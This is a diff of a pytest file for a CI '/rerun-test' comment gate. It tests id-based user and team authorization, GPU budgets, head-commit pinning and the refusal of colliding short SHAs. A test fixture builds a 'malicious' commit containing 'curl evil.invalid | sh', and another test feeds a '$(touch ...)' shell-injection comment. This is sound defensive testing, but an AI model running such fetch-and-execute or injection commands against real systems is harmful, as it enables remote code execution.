@@ -3,7 +3,9 @@ the client, the policy, the head-commit pin, and the gate and report steps end t
 
 from __future__ import annotations
 
+import hashlib
 import json
+import subprocess
 from datetime import datetime, timezone
 from pathlib import Path
 
@@ -12,11 +14,12 @@ from click.testing import CliRunner
 
 from generator.cli import cli
 from generator.errors import ProblemReport, UserError
+from generator.rerun.budget import Budget
 from generator.rerun.gate import PullHead, pin_head, read_pull
-from generator.rerun.github import GitHub, GitHubApiError
+from generator.rerun.github import GitHub, GitHubApiError, Push
 from generator.rerun.parse import RerunRejected
-from generator.rerun.policy import DEFAULT_SOURCE, RerunPolicy, authorize, load_policy, parse_policy
-from tests.rerun_support import E2E, FakeGitHub, write_rerun_tree
+from generator.rerun.policy import DEFAULT_SOURCE, PolicyTeam, PolicyUser, RerunPolicy, authorize, load_policy, parse_policy
+from tests.rerun_support import E2E, LINK_OUT, OUTSIDE_SECRET, FakeGitHub, write_rerun_tree
 
 REPO = "octo/gpu"
 SHA = "0123456789abcdef0123456789abcdef01234567"
@@ -54,6 +57,11 @@ def pull(sha: str = SHA, fork: bool = False, state: str = "open") -> dict:
 
 def pushed(at: str, after: str = SHA) -> list[dict]:
     return [{"before": OLD, "after": after, "ref": "refs/heads/feature", "timestamp": at, "activity_type": "push"}]
+
+
+def pushes(at: str, after: str = SHA) -> list[Push]:
+    """The same log as the client reads it."""
+    return [Push(after, datetime.fromisoformat(at.replace("Z", "+00:00")), "push")]
 
 
 # -- the client ----------------------------------------------------------------------------
@@ -102,26 +110,59 @@ def test_an_unreachable_api_is_a_user_error():
 # -- the policy ----------------------------------------------------------------------------
 
 
-def test_without_a_policy_file_the_default_is_write_access_and_no_forks(tmp_path):
-    assert load_policy(tmp_path / "missing.yml") == RerunPolicy(
-        source=DEFAULT_SOURCE, permission="write", users=(), teams=(), forks=False, require_commit=False, max_selectors=8
+def test_without_a_policy_file_the_default_is_write_access_no_forks_and_the_default_budgets(tmp_path):
+    policy = load_policy(tmp_path / "missing.yml")
+    assert policy == RerunPolicy(
+        source=DEFAULT_SOURCE,
+        permission="write",
+        users=(),
+        teams=(),
+        forks=False,
+        require_commit=False,
+        max_selectors=8,
+        comment_budget=Budget(jobs=4, gpu_minutes=1440),
+        pull_request_budget=Budget(jobs=16, gpu_minutes=2880),
+        repository_budget=Budget(jobs=64, gpu_minutes=11520),
     )
 
 
 def test_a_policy_file_is_read_whole():
-    text = "version: 1\npermission: admin\nusers: [alice]\nteams: [octo/gpu-ci]\nforks: true\nrequire_commit: true\nmax_selectors: 3\n"
-    assert parse_policy(text, "p.yml") == RerunPolicy("p.yml", "admin", ("alice",), ("octo/gpu-ci",), True, True, 3)
+    text = (
+        "version: 1\npermission: admin\nusers: [{login: alice, id: 7}]\nteams: [{team: octo/gpu-ci, id: 42}]\n"
+        "forks: true\nrequire_commit: true\nmax_selectors: 3\n"
+        "budget:\n  per_comment: {jobs: 2}\n  per_pull_request_per_day: {gpu_minutes: 100}\n"
+        "  per_repository_per_day: {jobs: 10, gpu_minutes: 1000}\n"
+    )
+    assert parse_policy(text, "p.yml") == RerunPolicy(
+        "p.yml",
+        "admin",
+        (PolicyUser("alice", 7),),
+        (PolicyTeam("octo/gpu-ci", 42),),
+        True,
+        True,
+        3,
+        Budget(2, 1440),
+        Budget(16, 100),
+        Budget(10, 1000),
+    )
 
 
 def test_policy_mistakes_are_reported_with_their_lines():
+    text = "version: 1\npermission: read\nusers: ['bad name', alice]\nteams: [octo/ci]\nfork: true\nbudget: {per_day: {}}\n"
     with pytest.raises(ProblemReport) as report:
-        parse_policy("version: 1\npermission: read\nusers: ['bad name']\nfork: true\n", "p.yml")
+        parse_policy(text, "p.yml")
     assert [p.format() for p in report.value.problems] == [
         "p.yml:1: policy-schema: top level: Additional properties are not allowed ('fork' was unexpected)",
         "p.yml:2: policy-schema: permission: 'read' is not one of ['write', 'maintain', 'admin', None]",
-        "p.yml:3: policy-schema: users.0: 'bad name' does not match '^[A-Za-z0-9](?:[A-Za-z0-9-]{0,38})$'",
+        "p.yml:3: policy-schema: users.0: write {login: bad name, id: <numeric id>}: names can be renamed and reused, "
+        "ids cannot (`gh api users/bad name --jq .id`)",
+        "p.yml:3: policy-schema: users.1: write {login: alice, id: <numeric id>}: names can be renamed and reused, "
+        "ids cannot (`gh api users/alice --jq .id`)",
+        "p.yml:4: policy-schema: teams.0: write {team: octo/ci, id: <numeric id>}: names can be renamed and reused, "
+        "ids cannot (`gh api orgs/octo/teams/ci --jq .id`)",
+        "p.yml:6: policy-schema: budget: Additional properties are not allowed ('per_day' was unexpected)",
     ]
-    assert report.value.summary == "3 errors in p.yml"
+    assert report.value.summary == "6 errors in p.yml"
 
 
 @pytest.mark.parametrize(
@@ -153,23 +194,53 @@ def test_an_answer_about_another_user_is_refused(github):
 
 
 def test_listed_users_need_no_api_call_and_admin_policies_refuse_writers(github):
-    assert authorize(RerunPolicy("p.yml", users=("Alice",)), client(github), "alice", 7).reason == "@alice is listed in p.yml"
+    listed = RerunPolicy("p.yml", users=(PolicyUser("Alice", 7),))
+    assert authorize(listed, client(github), "alice", 7).reason == "@alice (id 7) is listed in p.yml"
+    assert authorize(listed, client(github), "alice-renamed", 7).reason == "@alice-renamed (id 7) is listed in p.yml"
     assert github.requests == []
     github.on("GET", f"/repos/{REPO}/collaborators/bob/permission", permission("bob", "write"))
     verdict = authorize(RerunPolicy("p.yml", permission="admin"), client(github), "bob", 7)
     assert (verdict.allowed, verdict.reason) == (False, "@bob may not run /rerun-test: has write permission, needs admin")
 
 
+def test_a_listed_login_taken_over_by_another_account_is_not_listed(github):
+    """Regression: users were matched by login; a renamed-away login can be registered by anyone."""
+    policy = RerunPolicy("p.yml", permission=None, users=(PolicyUser("alice", 7),))
+    verdict = authorize(policy, client(github), "alice", 666)
+    assert (verdict.allowed, verdict.reason) == (False, "@alice may not run /rerun-test: not listed")
+    assert github.requests == []
+
+
 def test_team_membership_is_checked_and_unreadable_teams_are_explained(github):
+    github.on("GET", "/orgs/octo/teams/secret", {"id": 41})
     github.on("GET", "/orgs/octo/teams/secret/memberships/carol", {"message": "Forbidden"}, status=403)
+    github.on("GET", "/orgs/octo/teams/gpu-ci", {"id": 42, "slug": "gpu-ci"})
     github.on("GET", "/orgs/octo/teams/gpu-ci/memberships/carol", {"state": "active", "role": "member"})
-    policy = RerunPolicy("p.yml", permission=None, teams=("octo/secret", "octo/gpu-ci"))
+    policy = RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/secret", 41), PolicyTeam("octo/gpu-ci", 42)))
     assert authorize(policy, client(github), "carol", 7).reason == "@carol is a member of octo/gpu-ci"
-    verdict = authorize(RerunPolicy("p.yml", permission=None, teams=("octo/secret",)), client(github), "carol", 7)
+    verdict = authorize(RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/secret", 41),)), client(github), "carol", 7)
     assert (verdict.allowed, verdict.reason) == (
         False,
         "@carol may not run /rerun-test: team octo/secret could not be checked (HTTP 403: Forbidden)",
     )
+
+
+@pytest.mark.parametrize(
+    "answer, status, reason",
+    [
+        ({"id": 99}, 200, "team octo/gpu-ci has id 99, not 42 as the policy says"),
+        ({"message": "Not Found"}, 404, "team octo/gpu-ci does not exist, not 42 as the policy says"),
+        ({"id": "42"}, 200, "team octo/gpu-ci could not be checked (unexpected answer: answer.id is a string, not an integer)"),
+    ],
+    ids=["renamed-and-replaced", "deleted", "malformed"],
+)
+def test_teams_are_matched_by_id_before_membership(github, answer, status, reason):
+    """Regression: a team slug can be renamed and a new team take it; the policy's id decides."""
+    github.on("GET", "/orgs/octo/teams/gpu-ci", answer, status=status)
+    github.on("GET", "/orgs/octo/teams/gpu-ci/memberships/carol", {"state": "active", "role": "member"})
+    verdict = authorize(RerunPolicy("p.yml", permission=None, teams=(PolicyTeam("octo/gpu-ci", 42),)), client(github), "carol", 7)
+    assert (verdict.allowed, verdict.reason) == (False, f"@carol may not run /rerun-test: {reason}")
+    assert ("GET", "/orgs/octo/teams/gpu-ci/memberships/carol") not in github.calls()
 
 
 # -- the head commit -----------------------------------------------------------------------
@@ -177,31 +248,39 @@ def test_team_membership_is_checked_and_unreadable_teams_are_explained(github):
 AT = datetime(2026, 7, 20, 10, 0, tzinfo=timezone.utc)
 HEAD = PullHead(sha=SHA, repo=REPO, branch="feature", fork=False)
 POLICY = RerunPolicy("policy.yml")
+UNPROVEN = (
+    f"no push record shows when 0123456789ab became the head of {REPO}:feature; "
+    "nothing runs on a head that cannot be shown to predate the comment"
+)
 
 
 @pytest.mark.parametrize(
     "head, pin, activity, policy, code, reason",
     [
-        (HEAD, "0123abc", None, POLICY, "head-moved", "the head is now 0123456789ab, not @0123abc: review the new commits and comment again"),
-        (HEAD, None, pushed("2026-07-20T10:00:05Z"), POLICY, "head-moved", "0123456789ab was pushed at 2026-07-20T10:00:05Z, after the comment: review it and comment again"),
-        (HEAD, None, pushed("2026-07-20T09:00:00Z", after=OLD), POLICY, "head-moved", f"the last push to {REPO}:feature is not the head 0123456789ab; name the commit you reviewed: /rerun-test FILE @<sha>"),
-        (HEAD, None, [], POLICY, "head-unproven", f"no push record shows when 0123456789ab became the head of {REPO}:feature; name the commit you reviewed: /rerun-test FILE @<sha>"),
-        (HEAD, None, pushed("2026-07-20T09:00:00Z"), RerunPolicy("policy.yml", require_commit=True), "commit-required", "policy.yml requires naming the commit you reviewed: /rerun-test FILE @<sha>"),
-        (PullHead(SHA, "mallory/gpu", "feature", True), "0123456", None, POLICY, "fork", "the pull request comes from the fork mallory/gpu, and policy.yml does not allow forks"),
+        (HEAD, OLD, pushes("2026-07-20T09:00:00Z"), POLICY, "head-moved", "the head is now 0123456789ab, not @fedcba987654: review the new commits and comment again"),
+        (HEAD, None, pushes("2026-07-20T10:00:05Z"), POLICY, "head-moved", "0123456789ab was pushed at 2026-07-20T10:00:05Z, after the comment: review it and comment again"),
+        (HEAD, None, pushes("2026-07-20T10:00:00Z"), POLICY, "same-second-push", "0123456789ab was pushed at 2026-07-20T10:00:00Z, the same second as the comment, so which came first cannot be told: review it and comment again"),
+        (HEAD, SHA, pushes("2026-07-20T10:00:00Z"), POLICY, "same-second-push", "0123456789ab was pushed at 2026-07-20T10:00:00Z, the same second as the comment, so which came first cannot be told: review it and comment again"),
+        (HEAD, SHA, pushes("2026-07-20T10:00:05Z"), POLICY, "head-moved", "0123456789ab was pushed at 2026-07-20T10:00:05Z, after the comment: review it and comment again"),
+        (HEAD, None, pushes("2026-07-20T09:00:00Z", after=OLD), POLICY, "head-moved", f"the last push to {REPO}:feature is not the head 0123456789ab: review the new commits and comment again"),
+        (HEAD, None, [], POLICY, "head-unproven", UNPROVEN),
+        (HEAD, SHA, None, POLICY, "head-unproven", UNPROVEN),
+        (HEAD, None, pushes("2026-07-20T09:00:00Z"), RerunPolicy("policy.yml", require_commit=True), "commit-required", "policy.yml requires naming the commit you reviewed: /rerun-test FILE @<sha>"),
+        (PullHead(SHA, "mallory/gpu", "feature", True), SHA, None, POLICY, "fork", "the pull request comes from the fork mallory/gpu, and policy.yml does not allow forks"),
     ],
-    ids=["pin differs", "pushed after the comment", "log disagrees", "no log", "pin required", "fork"],
-)
+    ids=["pin differs", "pushed after the comment", "pushed in the same second", "pinned, pushed in the same second", "pinned, pushed after", "log disagrees", "no log", "pinned, no log", "pin required", "fork"],
+)  # fmt: skip
 def test_a_head_that_moved_or_cannot_be_proven_is_refused(head, pin, activity, policy, code, reason):
     with pytest.raises(RerunRejected) as rejected:
         pin_head(head, pin, AT, activity, policy)
     assert (rejected.value.code, rejected.value.reason) == (code, reason)
 
 
-def test_a_head_pushed_before_the_comment_or_pinned_is_accepted():
-    assert pin_head(HEAD, None, AT, pushed("2026-07-20T10:00:00Z"), POLICY) == SHA
-    assert pin_head(HEAD, "0123456789", AT, None, POLICY) == SHA
+def test_a_head_pushed_strictly_before_the_comment_is_accepted_pinned_or_not():
+    assert pin_head(HEAD, None, AT, pushes("2026-07-20T09:59:59Z"), POLICY) == SHA
+    assert pin_head(HEAD, SHA, AT, pushes("2026-07-20T09:59:59Z"), POLICY) == SHA
     fork = PullHead(SHA, "mallory/gpu", "feature", True)
-    assert pin_head(fork, None, AT, pushed("2026-07-20T09:59:00Z"), RerunPolicy("p", forks=True)) == SHA
+    assert pin_head(fork, None, AT, pushes("2026-07-20T09:59:00Z"), RerunPolicy("p", forks=True)) == SHA
 
 
 @pytest.mark.parametrize(
@@ -219,10 +298,73 @@ def test_the_live_pull_request_must_be_open_and_ours(answer, code, reason):
     assert (rejected.value.code, rejected.value.reason) == (code, reason)
 
 
+# -- a real short-SHA collision ---------------------------------------------------------------
+
+
+def _commit_body(tree: str, message: str) -> bytes:
+    stamp = "1784541600 +0000"
+    return f"tree {tree}\nauthor Dev <dev@x.invalid> {stamp}\ncommitter Dev <dev@x.invalid> {stamp}\n\n{message}\n".encode()
+
+
+def _git_sha(body: bytes) -> str:
+    """What `git hash-object -t commit` computes: SHA-1 over the object header and body."""
+    return hashlib.sha1(b"commit %d\0" % len(body) + body).hexdigest()
+
+
+@pytest.fixture(scope="module")
+def collision(tmp_path_factory) -> tuple[str, str, Path]:
+    """A benign and a malicious commit of one real repository whose SHAs share the first 7 hex
+    digits: a birthday search over commit messages (2 x ~2^14 SHA-1s, well under a second)."""
+    repo = tmp_path_factory.mktemp("collision")
+
+    def git(*args: str, data: bytes | None = None) -> str:
+        done = subprocess.run(["git", *args], cwd=repo, input=data, capture_output=True, check=True)
+        return done.stdout.decode().strip()
+
+    git("init", "-q")
+    trees = {}
+    for kind, source in (("benign", "print('ok')\n"), ("malicious", "import os\nos.system('curl evil.invalid | sh')\n")):
+        blob = git("hash-object", "-w", "--stdin", data=source.encode())
+        trees[kind] = git("mktree", data=f"100644 blob {blob}\ttest_x.py\n".encode())
+    seen: dict[str, dict[str, bytes]] = {"benign": {}, "malicious": {}}
+    number = 0
+    while True:
+        for kind, other in (("benign", "malicious"), ("malicious", "benign")):
+            body = _commit_body(trees[kind], f"{kind} change {number}")
+            prefix = _git_sha(body)[:7]
+            if prefix in seen[other]:
+                bodies = {kind: body, other: seen[other][prefix]}
+                shas = {k: git("hash-object", "-t", "commit", "-w", "--stdin", data=b) for k, b in bodies.items()}
+                assert shas == {k: _git_sha(b) for k, b in bodies.items()}
+                return shas["benign"], shas["malicious"], repo
+            seen[kind][prefix] = body
+        number += 1
+
+
+def test_the_collision_is_two_real_commits_git_itself_cannot_tell_apart_by_7_digits(collision):
+    benign, malicious, repo = collision
+    assert benign != malicious and benign[:7] == malicious[:7]
+    for sha in (benign, malicious):
+        assert subprocess.run(["git", "cat-file", "-t", sha], cwd=repo, capture_output=True, text=True).stdout == "commit\n"
+    ambiguous = subprocess.run(["git", "rev-parse", "--verify", "--quiet", f"{benign[:7]}^{{commit}}"], cwd=repo, capture_output=True)
+    assert ambiguous.returncode != 0
+
+
+def test_a_full_pin_of_the_benign_commit_refuses_the_malicious_head(collision):
+    benign, malicious, _ = collision
+    head = PullHead(malicious, REPO, "feature", False)
+    with pytest.raises(RerunRejected) as rejected:
+        pin_head(head, benign, AT, pushes("2026-07-20T09:00:00Z", after=malicious), POLICY)
+    assert (rejected.value.code, rejected.value.reason) == (
+        "head-moved",
+        f"the head is now {malicious[:12]}, not @{benign[:12]}: review the new commits and comment again",
+    )
+
+
 # -- the gate step, end to end ---------------------------------------------------------------
 
 
-def gate_env(server: FakeGitHub, output: Path, body: str, author: str = "alice") -> dict:
+def gate_env(server: FakeGitHub, output: Path, body: str, author: str = "alice", association: str = "MEMBER") -> dict:
     return {
         "GITHUB_REPOSITORY": REPO,
         "GITHUB_TOKEN": "t0k",
@@ -234,56 +376,72 @@ def gate_env(server: FakeGitHub, output: Path, body: str, author: str = "alice")
         "COMMENT_ID": "101",
         "COMMENT_AUTHOR": author,
         "COMMENT_AUTHOR_ID": "7",
+        "COMMENT_AUTHOR_ASSOCIATION": association,
         "COMMENT_CREATED_AT": COMMENTED,
         "PR_NUMBER": "12",
     }
 
 
-def run_gate(server: FakeGitHub, tree: Path, tmp_path: Path, body: str, *args: str, author: str = "alice"):
+def run_gate(server: FakeGitHub, tree: Path, tmp_path: Path, body: str, *args: str, author: str = "alice", association: str = "MEMBER"):
     output = tmp_path / "github_output"
-    output.touch()
+    output.write_text("")
     result = CliRunner().invoke(
-        cli, ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "policy.yml"), *args], env=gate_env(server, output, body, author)
+        cli,
+        ["rerun", "gate", "--root", str(tree), "--policy", str(tmp_path / "policy.yml"), *args],
+        env=gate_env(server, output, body, author, association),
     )
     return result, output.read_text()
 
 
-def serve_happy_path(server: FakeGitHub, activity: list[dict] | None = None) -> None:
-    server.on("GET", f"/repos/{REPO}/collaborators/alice/permission", permission("alice", "write"))
-    server.on("GET", f"/repos/{REPO}/pulls/12", pull())
-    server.on("GET", f"/repos/{REPO}/activity", activity if activity is not None else pushed("2026-07-20T09:58:00Z"))
-    server.on("POST", f"/repos/{REPO}/issues/comments/101/reactions", {"content": "x"}, status=201)
-    server.on("POST", f"/repos/{REPO}/issues/12/comments", {"id": 555}, status=201)
-    server.on("POST", f"/repos/{REPO}/statuses/{SHA}", {"state": "pending"}, status=201)
+PERMISSION = ("GET", f"/repos/{REPO}/collaborators/alice/permission")
+PULL = ("GET", f"/repos/{REPO}/pulls/12")
+ACTIVITY = ("GET", f"/repos/{REPO}/activity")
+COMMENTS = ("GET", f"/repos/{REPO}/issues/comments")
+REACT = ("POST", f"/repos/{REPO}/issues/comments/101/reactions")
+REPLY = ("POST", f"/repos/{REPO}/issues/12/comments")
+STATUS = ("POST", f"/repos/{REPO}/statuses/{SHA}")
+REFUSED_TRAIL = [REACT, REPLY]
+
+
+def serve_happy_path(server: FakeGitHub, activity: list[dict] | None = None, comments: list[dict] | None = None) -> None:
+    server.on(*PERMISSION, permission("alice", "write"))
+    server.on(*PULL, pull())
+    server.on(*ACTIVITY, activity if activity is not None else pushed("2026-07-20T09:58:00Z"))
+    server.on(*COMMENTS, comments if comments is not None else [])
+    server.on(*REACT, {"content": "x"}, status=201)
+    server.on(*REPLY, {"id": 555}, status=201)
+    server.on(*STATUS, {"state": "pending"}, status=201)
+
+
+def replies(server: FakeGitHub) -> list[str]:
+    return [body["body"] for body in server.bodies(*REPLY)]
+
+
+def rejection(reason: str, mention: str = "@alice") -> str:
+    return (
+        f"<!-- cigen:rerun-test -->\n{mention}: nothing was run.\n\n```text\n{reason}\n```\n\n"
+        "Usage: `/rerun-test test/registered/<dir>/test_<name>.py[::Class.method] ... [@<full sha>]`, one line."
+    )
 
 
 def test_gate_accepts_answers_and_sets_pending_statuses(github, tree, tmp_path):
     serve_happy_path(github)
-    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {FA3}::TestFA3.test_decode\n\nflaky on main?")
+    selector = f"{FA3}::TestFeature0.test_generate_0"
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {selector}\n\n")
     assert result.exit_code == 0, result.output
     assert result.stdout == f"accepted: 2 test runs at {SHA}\n"
-    assert github.calls() == [
-        ("GET", f"/repos/{REPO}/collaborators/alice/permission"),
-        ("GET", f"/repos/{REPO}/pulls/12"),
-        ("GET", f"/repos/{REPO}/activity"),
-        ("POST", f"/repos/{REPO}/issues/comments/101/reactions"),
-        ("POST", f"/repos/{REPO}/issues/12/comments"),
-        ("POST", f"/repos/{REPO}/statuses/{SHA}"),
-        ("POST", f"/repos/{REPO}/statuses/{SHA}"),
-    ]
+    assert github.calls() == [PERMISSION, PULL, ACTIVITY, COMMENTS, REACT, REPLY, STATUS, STATUS]
     assert github.requests[2].query == {"ref": "refs/heads/feature", "direction": "desc", "per_page": "10"}
-    assert github.bodies("POST", f"/repos/{REPO}/issues/comments/101/reactions") == [{"content": "rocket"}]
-    selector = f"{FA3}::TestFA3.test_decode"
-    assert github.bodies("POST", f"/repos/{REPO}/issues/12/comments") == [
-        {
-            "body": "<!-- cigen:rerun-test -->\n"
-            f"/rerun-test by @alice at `0123456789ab`: [workflow run]({RUN_URL})\n\n"
-            "| test | pool | result | duration |\n|---|---|---|---|\n"
-            f"| `{selector}` | `1-gpu-h100` | ⏳ queued |  |\n"
-            f"| `{selector}` | `4-gpu-b200` | ⏳ queued |  |"
-        }
+    assert github.requests[3].query == {"since": "2026-07-19T10:00:00Z", "sort": "created", "direction": "desc", "per_page": "100", "page": "1"}
+    assert github.bodies(*REACT) == [{"content": "rocket"}]
+    assert replies(github) == [
+        "<!-- cigen:rerun-test jobs=2 gpu-minutes=3 -->\n"
+        f"/rerun-test by @alice at `0123456789ab`: [workflow run]({RUN_URL})\n\n"
+        "| test | pool | result | duration |\n|---|---|---|---|\n"
+        f"| `{selector}` | `1-gpu-h100` | ⏳ queued |  |\n"
+        f"| `{selector}` | `4-gpu-b200` | ⏳ queued |  |"
     ]
-    assert github.bodies("POST", f"/repos/{REPO}/statuses/{SHA}") == [
+    assert github.bodies(*STATUS) == [
         {"state": "pending", "context": f"rerun-test {selector} (1-gpu-h100)", "description": "queued by @alice", "target_url": RUN_URL},
         {"state": "pending", "context": f"rerun-test {selector} (4-gpu-b200)", "description": "queued by @alice", "target_url": RUN_URL},
     ]
@@ -296,12 +454,14 @@ def test_gate_accepts_answers_and_sets_pending_statuses(github, tree, tmp_path):
         {
             "selector": selector,
             "file": FA3,
-            "test": "TestFA3.test_decode",
+            "test": "TestFeature0.test_generate_0",
             "pool": "4-gpu-b200",
             "labels": ["4-gpu-b200"],
             "suites": ["base-b-test-4-gpu-b200"],
             "timeout_minutes": 20,
-            "argv": ["python3", FA3, "TestFA3.test_decode"],
+            "est_seconds": 25.0,
+            "gpus": 4,
+            "argv": ["python3", FA3, "TestFeature0.test_generate_0"],
             "job_name": f"4-gpu-b200: {selector}",
             "status_context": f"rerun-test {selector} (4-gpu-b200)",
         }
@@ -310,23 +470,17 @@ def test_gate_accepts_answers_and_sets_pending_statuses(github, tree, tmp_path):
 
 def test_gate_refuses_a_commenter_without_permission_and_never_echoes_the_comment(github, tree, tmp_path):
     github.on("GET", f"/repos/{REPO}/collaborators/mallory/permission", permission("mallory", "read"))
-    github.on("POST", f"/repos/{REPO}/issues/comments/101/reactions", {}, status=201)
-    github.on("POST", f"/repos/{REPO}/issues/12/comments", {"id": 556}, status=201)
+    github.on(*REACT, {}, status=201)
+    github.on(*REPLY, {"id": 556}, status=201)
     result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @everyone <img src=x>", author="mallory")
     assert result.exit_code == 0, result.output
     assert result.stdout == "rejected: @mallory may not run /rerun-test: has read permission, needs write\n"
     assert outputs == "accepted=false\n"
-    assert github.calls() == [
-        ("GET", f"/repos/{REPO}/collaborators/mallory/permission"),
-        ("POST", f"/repos/{REPO}/issues/comments/101/reactions"),
-        ("POST", f"/repos/{REPO}/issues/12/comments"),
-    ]
-    assert github.bodies("POST", f"/repos/{REPO}/issues/comments/101/reactions") == [{"content": "-1"}]
-    assert github.bodies("POST", f"/repos/{REPO}/issues/12/comments") == [
-        {
-            "body": "<!-- cigen:rerun-test -->\n@mallory: /rerun-test is limited to people with write permission or above "
-            "on this repository. Ask a maintainer to run it."
-        }
+    assert github.calls() == [("GET", f"/repos/{REPO}/collaborators/mallory/permission"), REACT, REPLY]
+    assert github.bodies(*REACT) == [{"content": "-1"}]
+    assert replies(github) == [
+        "<!-- cigen:rerun-test -->\n@mallory: /rerun-test is limited to people with write permission or above "
+        "on this repository. Ask a maintainer to run it."
     ]
 
 
@@ -337,28 +491,17 @@ def test_gate_explains_a_hostile_comment_inside_a_fence_it_cannot_break(github, 
     result, outputs = run_gate(github, tree, tmp_path, body)
     assert result.exit_code == 0, result.output
     assert outputs == "accepted=false\n"
-    assert github.calls() == [
-        ("GET", f"/repos/{REPO}/collaborators/alice/permission"),
-        ("POST", f"/repos/{REPO}/issues/comments/101/reactions"),
-        ("POST", f"/repos/{REPO}/issues/12/comments"),
-    ]
-    assert github.bodies("POST", f"/repos/{REPO}/issues/comments/101/reactions") == [{"content": "confused"}]
-    reason = "'@here': name the commit as @ and 7 to 40 hex digits"
-    assert github.bodies("POST", f"/repos/{REPO}/issues/12/comments") == [
-        {
-            "body": "<!-- cigen:rerun-test -->\n@alice: nothing was run.\n\n"
-            f"```text\n{reason}\n```\n\n"
-            "Usage: `/rerun-test test/registered/<dir>/test_<name>.py[::Class.method] ... [@<sha>]` on the first line."
-        }
-    ]
+    assert github.calls() == [PERMISSION, REACT, REPLY]
+    assert github.bodies(*REACT) == [{"content": "confused"}]
+    assert replies(github) == [rejection("'@here': name the commit as @ and its full 40-hex-digit SHA")]
     result, _ = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}```$(touch {marker})```")
-    [_, answer] = github.bodies("POST", f"/repos/{REPO}/issues/12/comments")
-    assert answer["body"].split("\n")[3:6] == [
+    [_, answer] = replies(github)
+    assert answer.split("\n")[3:6] == [
         "````text",
         f"'{E2E}```$(touch': shell metacharacter '`' is not allowed",
         f"'{marker})```': shell metacharacter ')' is not allowed",
     ]
-    assert answer["body"].split("\n")[6] == "````"
+    assert answer.split("\n")[6] == "````"
     assert not marker.exists()
 
 
@@ -367,19 +510,57 @@ def test_gate_refuses_when_the_pr_moved_after_the_comment(github, tree, tmp_path
     result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
     assert result.stdout == "rejected: 0123456789ab was pushed at 2026-07-20T10:00:30Z, after the comment: review it and comment again\n"
     assert outputs == "accepted=false\n"
-    assert ("POST", f"/repos/{REPO}/statuses/{SHA}") not in github.calls()
+    assert STATUS not in github.calls()
 
 
-def test_gate_with_a_pin_needs_no_push_log(github, tree, tmp_path):
+def test_gate_refuses_a_push_in_the_same_second_as_the_comment(github, tree, tmp_path):
+    """Regression: `pushed_at <= commented_at` accepted a push made in the comment's second."""
+    serve_happy_path(github, activity=pushed(COMMENTED))
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
+    assert result.exit_code == 0, result.output
+    reason = (
+        "0123456789ab was pushed at 2026-07-20T10:00:00Z, the same second as the comment, so which came first "
+        "cannot be told: review it and comment again"
+    )
+    assert (result.stdout, outputs) == (f"rejected: {reason}\n", "accepted=false\n")
+    assert replies(github) == [rejection(reason)]
+    assert STATUS not in github.calls()
+
+
+def test_gate_with_a_full_pin_still_needs_the_push_log(github, tree, tmp_path):
     serve_happy_path(github, activity=pushed("2026-07-20T10:00:30Z"))
-    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @0123456789AB")
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{SHA.upper()}")
+    assert result.stdout == "rejected: 0123456789ab was pushed at 2026-07-20T10:00:30Z, after the comment: review it and comment again\n"
+    assert ACTIVITY in github.calls() and STATUS not in github.calls()
+    github.on(*ACTIVITY, pushed("2026-07-20T09:00:00Z"))
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{SHA}")
     assert result.stdout == f"accepted: 1 test run at {SHA}\n"
-    assert ("GET", f"/repos/{REPO}/activity") not in github.calls()
+
+
+def test_gate_refuses_a_short_pin_that_a_malicious_commit_shares(github, tree, tmp_path, collision):
+    """Regression: `@<7 hex>` was checked with startswith and skipped the push log, so a commit
+    with the same prefix pushed after the maintainer's comment ran under that approval."""
+    benign, malicious, _ = collision
+    serve_happy_path(github, activity=pushed("2026-07-20T10:00:30Z", after=malicious))
+    github.on(*PULL, pull(sha=malicious))
+    github.on("POST", f"/repos/{REPO}/statuses/{malicious}", {}, status=201)
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{benign[:7]}")
+    assert result.exit_code == 0, result.output
+    assert outputs == "accepted=false\n"
+    reason = (
+        f"'@{benign[:7]}': a short SHA is not accepted (another commit can share its first digits); "
+        "name the commit as @ and its full 40-hex-digit SHA"
+    )
+    assert replies(github) == [rejection(reason)]
+    result, outputs = run_gate(github, tree, tmp_path, f"/rerun-test {E2E} @{benign}")
+    assert outputs == "accepted=false\n"
+    assert result.stdout == f"rejected: the head is now {malicious[:12]}, not @{benign[:12]}: review the new commits and comment again\n"
+    assert not [call for call in github.calls("POST") if "/statuses/" in call[1]]
 
 
 def test_gate_refuses_forks_unless_the_policy_allows_them(github, tree, tmp_path):
     serve_happy_path(github)
-    github.on("GET", f"/repos/{REPO}/pulls/12", pull(fork=True))
+    github.on(*PULL, pull(fork=True))
     github.on("GET", "/repos/mallory/gpu/activity", pushed("2026-07-20T09:00:00Z"))
     result, _ = run_gate(github, tree, tmp_path, f"/rerun-test {E2E}")
     assert result.stdout == "rejected: the pull request comes from the fork mallory/gpu, and <default /rerun-test policy> does not allow forks\n"
@@ -389,19 +570,250 @@ def test_gate_refuses_forks_unless_the_policy_allows_them(github, tree, tmp_path
     assert ("GET", "/repos/mallory/gpu/activity") in github.calls()
 
 
-def test_gate_reports_api_failures_without_a_traceback(github, tree, tmp_path):
-    github.on("GET", f"/repos/{REPO}/collaborators/alice/permission", {"message": "Bad credentials"}, status=401)
+@pytest.mark.parametrize("body", [f"/Rerun-test {E2E}", f"/RERUN-TEST {E2E}", f"/rerun-TEST {E2E}", f" /rerun-test {E2E}", f"/rerun-test\n{E2E}"])
+def test_gate_ignores_a_comment_that_is_not_exactly_the_command_without_an_api_call(github, tree, tmp_path, body):
+    """Regression: the workflow's `startsWith` is case-insensitive; the gate re-checks exactly,
+    before reading anything or calling the API (a stranger's comment costs nothing)."""
+    result, outputs = run_gate(github, tree, tmp_path, body)
+    assert result.exit_code == 0, result.output
+    assert (result.stdout, outputs) == ("rejected: ignored: the comment does not start with /rerun-test (case-sensitive)\n", "accepted=false\n")
+    assert github.requests == []
+
+
